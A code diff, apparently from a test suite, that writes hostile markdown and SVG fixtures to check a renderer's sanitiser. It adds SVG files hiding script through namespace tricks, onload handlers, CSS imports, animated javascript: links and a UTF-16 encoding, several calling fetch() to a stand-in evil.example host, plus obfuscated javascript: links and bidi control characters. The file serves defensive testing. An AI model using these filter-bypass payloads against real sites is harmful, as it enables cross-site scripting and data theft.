@@ -53,6 +53,9 @@ _PROSE = (
     "![a picture](evil.svg)",
     f"![a picture](javascript:{MARK})",
     "![a picture](https://example.org/x.png)",
+    "\n\n".join(f"![a picture](evil-{number}.svg)" for number in range(10)),
+    "a &#x202e;b&#x2066; &rlm;&shy;&zwj; &#xE0041; &#27;]0;x&#7; c",
+    "[a link](https://example.org/&#x202e;/x) [a link](java&Tab;script:evil) <data:text/html,x>",
     f"| a `{TAG}` | b |\n|---|---|\n| `{SCRIPT}` | c |",
     f"```mermaid\ngraph LR\n  a[{TAG}] --> b\n```",
 )
@@ -88,16 +91,40 @@ SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="parent.{MARK};{MARK}" 
 """
 
 
+_XMLNS = 'xmlns="http://www.w3.org/2000/svg" width="10" height="10"'
+_DRAWN = '<rect width="5" height="5"/>'
+_EVIL = "https://evil.example/"
+_FETCH = f"fetch('{_EVIL}')"
+# Each draws a rectangle, and is a program too: as no pattern sees it.
+PROGRAMS = (
+    f"<svg {_XMLNS}>{_DRAWN}<b.c:script xmlns:b.c='http://www.w3.org/2000/svg'>{MARK};{_FETCH}</b.c:script></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<é:script xmlns:é='http://www.w3.org/2000/svg'>{MARK};{_FETCH}</é:script></svg>",
+    f"<svg {_XMLNS} onload='{MARK}'>{_DRAWN}</svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<script xmlns='http://www.w3.org/1999/xhtml'>{MARK};{_FETCH}</script></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<style>@import url(https://evil.example/x.css);</style></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<rect style='fill:url(https://evil.example/x.svg#a)' width='9' height='9'/></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<foreignObject><b xmlns='http://www.w3.org/1999/xhtml'/></foreignObject></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<a href='x'><set attributeName='href' to='javascript:{MARK}'/></a></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<use href='{_EVIL}x.svg#a'/><image href='{_EVIL}x.png'/></svg>",
+    f"<svg {_XMLNS}>{_DRAWN}<script>{MARK};{_FETCH}</script></svg>",  # as UTF-16
+)
+
+
 def write_notes(folder: Path) -> None:
-    """A tour of payloads, and the picture that one of its stops shows."""
+    """A tour of payloads, and the pictures that its stops show."""
     (folder / "tours" / "hostile.md").write_text(tour(), encoding="utf-8")
     (folder / "tours" / "evil.svg").write_text(SVG, encoding="utf-8")
+    for number, program in enumerate(PROGRAMS):
+        encoding = "utf-16" if number == len(PROGRAMS) - 1 else "utf-8"
+        text = f'<?xml version="1.0" encoding="{encoding}"?>{program}'
+        (folder / "tours" / f"evil-{number}.svg").write_bytes(text.encode(encoding))
 
 
 def _hop(number: int, name: str, path: str | None, line: int | None, *children: dict[str, Any]) -> dict[str, Any]:
     source = {
         "tree": "mini", "path": path, "line": line, "end_line": line, "layer": "checkout", "candidates": [],
-        "precision": "version-skew" if path else "unknown", "url": f"javascript:{MARK}",
+        "precision": "version-skew" if path else "unknown",
+        "url": _EVIL if number % 2 else f"javascript:{MARK}",
     }  # fmt: skip
     return {
         "id": number, "kind": "native", "name": name, "status": "observed", "source": source, "phase": "forward",
@@ -116,7 +143,8 @@ def trail() -> str:
     ]
     document = {
         "format": 1, "expression": f"mix('{SCRIPT}{TAG}')", "bound": {"a": TAG}, "torch": {"version": f"2.99.0{TAG}"},
-        "trees": [{"name": "mini", "version": "2.99.0a0", "layers": ["checkout"], "relation": "version-skew"}],
+        "trees": [{"name": "mini", "version": "2.99.0a0", "commit": "a" * 40, "layers": ["checkout"],
+                   "relation": "version-skew"}],
         "captured": {"ops": True, "frames": True, "dispatch": True, "native": True, "reason": None}, "result": {},
         "findings": [{"kind": "cut", "hop": 3, "text": TAG}], "hops": hops,
     }  # fmt: skip
